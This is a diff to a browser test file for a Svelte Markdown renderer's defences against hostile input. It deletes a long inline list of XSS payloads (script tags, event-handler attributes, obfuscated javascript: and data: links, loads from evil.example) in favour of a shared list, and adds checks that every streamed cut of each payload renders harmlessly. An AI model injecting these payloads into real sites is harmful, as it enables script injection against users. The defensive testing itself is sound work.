@@ -1,7 +1,8 @@
 import { beforeAll, expect, test, vi } from 'vitest';
 import { render } from 'vitest-browser-svelte';
 import '../app.css';
-import { PAUSE_MS } from '../markdown-view.ts';
+import { HOSTILE } from '../../e2e/attacks/payloads.ts';
+import { MarkdownView, PAUSE_MS } from '../markdown-view.ts';
 import Markdown, { load } from './Markdown.svelte';
 
 beforeAll(load);
@@ -184,75 +185,30 @@ test('nothing moves or is rendered again when a block is finished', async () => 
 	expect(settled).toHaveLength(9);
 });
 
-const PAYLOADS = [
-	'<script>window.pwned = 1</script>',
-	'<script src="https://evil.example/x.js"></script>',
-	'<SCRIPT>window.pwned = 1</SCRIPT>',
-	'text <script>window.pwned = 1</script> text',
-	'<img src=x onerror="window.pwned = 1">',
-	'<img/src="https://evil.example/pixel.png"/onerror=window.pwned=1>',
-	'![x](https://evil.example/pixel.png)',
-	'![x](x" onerror="window.pwned = 1)',
-	'![x][i]\n\n[i]: https://evil.example/pixel.png',
-	'<svg onload="window.pwned = 1"><circle r=9 /></svg>',
-	'<svg><script>window.pwned = 1</script></svg>',
-	'<svg><foreignObject><iframe src="javascript:parent.pwned = 1"></iframe></foreignObject></svg>',
-	'<math><mtext><style><img src=x onerror=window.pwned=1></style></mtext></math>',
-	'<iframe src="javascript:parent.pwned = 1"></iframe>',
-	'<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
-	'<object data="https://evil.example"></object><embed src="https://evil.example">',
-	'<style>body { display: none } @import "https://evil.example/x.css";</style>',
-	'<link rel="stylesheet" href="https://evil.example/x.css">',
-	'<div style="position: fixed; inset: 0; background: url(https://evil.example)">over</div>',
-	'<form action="https://evil.example"><input name=q><button>go</button></form>',
-	'<meta http-equiv="refresh" content="0; url=https://evil.example">',
-	'<base href="https://evil.example">',
-	'<details open ontoggle="window.pwned = 1">x</details>',
-	'<body onload="window.pwned = 1">',
-	'<input autofocus onfocus="window.pwned = 1">',
-	'<video src=x onerror="window.pwned = 1"></video><audio src=x onerror="window.pwned = 1">',
-	'<template><img src=x onerror="window.pwned = 1"></template>',
-	'<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
-	'<a href="javascript:window.pwned = 1">x</a>',
-	'[x](javascript:window.pwned=1)',
-	'[x](JaVaScRiPt:window.pwned=1)',
-	'[x](javascript&colon;window.pwned=1)',
-	'[x](&#106;avascript:window.pwned=1)',
-	'[x](&#x6A;avascript&#58;window.pwned=1)',
-	'[x](<java\tscript:window.pwned=1>)',
-	'[x](\u0001javascript:window.pwned=1)',
-	'[x](< javascript:window.pwned=1>)',
-	'[x](vbscript:window.pwned=1)',
-	'[x](data:text/html,<script>window.pwned=1</script>)',
-	'[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)',
-	'[x](blob:https://evil.example/1) [x](file:///etc/passwd) [x](//evil.example) [x](/logout)',
-	'[x][j]\n\n[j]: javascript:window.pwned=1',
-	'<javascript:window.pwned=1>',
-	'[x](https://ok.example "onmouseover=window.pwned=1")',
-	'[x](https://ok.example/"onmouseover="window.pwned=1)',
-	'[![x](javascript:window.pwned=1)](javascript:window.pwned=1)',
-	'```"><script>window.pwned=1</script>\ncode\n```',
-	'```js\n</code></pre><script>window.pwned=1</script>\n```',
-	'| <img src=x onerror=window.pwned=1> |\n|---|\n| <script>window.pwned=1</script> |',
-	'- [x] <img src=x onerror=window.pwned=1>',
-	'`<img src=x onerror=window.pwned=1>`',
-	'<!--><img src=x onerror=window.pwned=1>-->',
-	'<![CDATA[<img src=x onerror=window.pwned=1>]]>',
-	'&lt;img src=x onerror=window.pwned=1&gt;',
-	'{@html "<img src=x onerror=window.pwned=1>"} ${window.pwned=1} {{window.pwned=1}}',
-];
 const FORBIDDEN =
 	'script, iframe, img, style, form, meta, base, link, object, embed, svg, math, video, audio, template';
 
 test('hostile text does nothing, wherever its stream is cut', async () => {
 	const requests = performance.getEntriesByType('resource').length;
+	for (const payload of HOSTILE) {
+		// Those that are long are so by saying the same again and again.
+		const step = Math.ceil(payload.length / 400);
+		for (let cut = 1; cut <= payload.length; cut += step) {
+			const root = document.body.appendChild(document.createElement('div'));
+			const view = new MarkdownView(root);
+			view.update(payload.slice(0, cut), false);
+			harmless(root, `${payload.slice(0, 400)}, cut at ${cut}`);
+			view.stop();
+			root.remove();
+		}
+	}
+
 	const answers = await Promise.all(
-		PAYLOADS.map(async (payload) => ({ payload, ...(await growing('')) })),
+		HOSTILE.map(async (payload) => ({ payload, ...(await growing('')) })),
 	);
 	const writeAll = (text: (payload: string) => string, streaming: boolean) =>
 		Promise.all(answers.map(({ payload, write }) => write(text(payload), streaming)));
-
-	for (const part of [0.1, 0.3, 0.5, 0.7, 0.9, 1]) {
+	for (const part of [0.3, 0.7, 1]) {
 		await writeAll((payload) => payload.slice(0, Math.ceil(payload.length * part)), true);
 		for (const { payload, container } of answers) harmless(container, payload);
 	}
